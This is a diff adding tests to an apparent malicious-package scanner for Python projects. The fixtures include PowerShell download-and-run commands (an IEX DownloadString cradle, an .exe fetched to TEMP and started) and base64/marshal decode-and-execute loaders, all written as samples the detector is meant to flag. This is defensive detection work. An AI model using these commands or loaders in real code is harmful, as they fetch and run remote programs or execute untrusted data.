@@ -2373,3 +2373,101 @@ def test_a_miner_started_beside_such_patterns_is_still_named():
     miner = found(result, "indicator.cryptominer")
     assert miner and {f.severity for f in miner} == {"high"}
     assert result.verdict in FLAGGED
+
+
+# -- a PowerShell download to a file is a download, as curl -o is ---------------------------
+
+_PS = """
+import subprocess
+
+
+def fetch(url, target):
+    command = {command!r}
+    subprocess.check_call(["powershell", "-Command", command % (url, target)])
+"""
+
+
+def test_a_powershell_download_to_a_file_is_not_download_and_run():
+    command = "(new-object System.Net.WebClient).DownloadFile('%s', '%s')"
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": _PS.format(command=command)}
+    )
+    assert not found(result, "intent.shell-download-execute")
+    assert result.verdict not in FLAGGED
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "(new-object System.Net.WebClient).DownloadFile('%s', '%s'); Start-Process '%s'",
+        "(New-Object Net.WebClient).DownloadFile('https://203.0.113.9/u.exe', '%s%s')",
+        "Invoke-WebRequest -Uri %s -OutFile $env:TEMP\\\\%s.exe",
+        "IEX (New-Object Net.WebClient).DownloadString('%s%s')",
+    ],
+)
+def test_a_powershell_download_that_runs_or_fetches_a_program_still_is(command):
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": _PS.format(command=command)}
+    )
+    assert found(result, "intent.shell-download-execute")
+
+
+# -- a field of a parameter is what the caller passed ------------------------------------------
+
+_HOOK = """
+import base64
+import json
+import marshal
+import types
+
+
+def decode(text):
+    def hook(record):
+        if "__function__" in record:
+            code = marshal.loads(base64.b64decode(record["__function__"]))
+            return types.FunctionType(code, {{}}, "func")
+        return record
+    return json.loads(text, object_hook=hook)
+{extra}
+"""
+
+
+def test_decoding_a_field_of_a_parameter_is_decoding_what_the_caller_hands_over():
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "", "demo/codec.py": _HOOK.format(extra="")}
+    )
+    decode = found(result, "intent.decode-execute")
+    assert decode and {f.severity for f in decode} == {"medium"}
+    assert result.verdict not in FLAGGED
+
+
+def test_the_objects_own_field_is_not_a_parameter():
+    state = """
+class Loader:
+    blob = "ZXhlYygncHJpbnQoMSknKQ=="
+
+    def run(self):
+        exec(base64.b64decode(self.blob))
+"""
+    result = scan(
+        {"setup.py": SETUP, "demo/__init__.py": "", "demo/codec.py": _HOOK.format(extra=state)}
+    )
+    assert "high" in {f.severity for f in found(result, "intent.decode-execute")}
+
+
+def test_handed_data_decoded_written_and_run_is_still_reported():
+    runner = """
+import base64
+import os
+import subprocess
+
+
+def save_and_run(task, folder):
+    path = os.path.join(folder, task["name"])
+    with open(path, "wb") as f:
+        f.write(base64.b64decode(task["data"]))
+    subprocess.Popen([path])
+"""
+    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/task.py": runner})
+    drop = found(result, "intent.drop-payload")
+    assert drop and "handed" in drop[0].message
